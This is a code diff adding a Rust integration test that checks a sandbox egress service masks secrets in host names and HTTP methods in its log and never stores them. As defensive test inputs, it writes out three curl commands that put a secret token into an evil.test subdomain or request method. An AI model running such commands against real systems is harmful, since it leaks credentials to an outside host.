@@ -379,3 +379,43 @@ async fn network_requests_are_checked_scoped_and_logged_for_reviews() {
     assert!(denied_with(&log, "other.test", "no_rule"), "{log:#?}");
     assert_eq!(b.get(&format!("/v1/reviews/{id}/egress")).await.status, 404);
 }
+
+/// A sandbox cannot smuggle one of its secrets into the egress log by
+/// naming it as a host or a method: those fields are masked, whatever
+/// their case, and the data directory never holds the value.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn secrets_sent_as_host_names_are_masked_in_the_egress_log() {
+    use crate::secrets::{files_containing, fresh_value, KEY};
+    let d = servers::start().await;
+    let map = resolve_map(&d);
+    let server = Server::start_env(
+        RuntimeDirs::shared(),
+        &[("WARDEN_EGRESS_RESOLVE", &map), ("WARDEN_SECRETS_KEY", KEY)],
+    );
+    let (_, a) = server.admin().tenant("smuggler", None).await;
+    let value = fresh_value("egress");
+    let r = a
+        .post("/v1/secrets", json!({"name": "TOKEN", "value": value}))
+        .await;
+    assert_eq!(r.status, 201, "{}", r.text);
+    let sb = a
+        .sandbox(json!({"network": allowlist(&["allowed.test"]), "secrets": ["TOKEN"]}))
+        .await;
+    for line in [
+        "curl -s -o /dev/null -w '%{http_code}' \"http://$TOKEN.evil.test/\"",
+        "curl -s -o /dev/null -w '%{http_code}' \"http://$(echo $TOKEN | tr a-z A-Z).evil.test/\"",
+        "curl -s -o /dev/null -w '%{http_code}' -X \"$TOKEN\" http://allowed.test/",
+    ] {
+        let code = a.ok(&sb, line).await;
+        assert!(code == "403" || code == "200", "{line}: {code}");
+    }
+    let log = egress_log(&a, &format!("/v1/sandboxes/{sb}")).await;
+    assert!(log.iter().any(|e| e["host"] == "***.evil.test"), "{log:#?}");
+    assert!(log.iter().any(|e| e["method"] == "***"), "{log:#?}");
+    let text = serde_json::to_string(&log).unwrap().to_ascii_lowercase();
+    assert!(!text.contains(&value), "{text}");
+    for v in [value.clone(), value.to_ascii_uppercase()] {
+        let hits = files_containing(&server.data_dir, v.as_bytes());
+        assert!(hits.is_empty(), "the secret is stored in {hits:?}");
+    }
+}
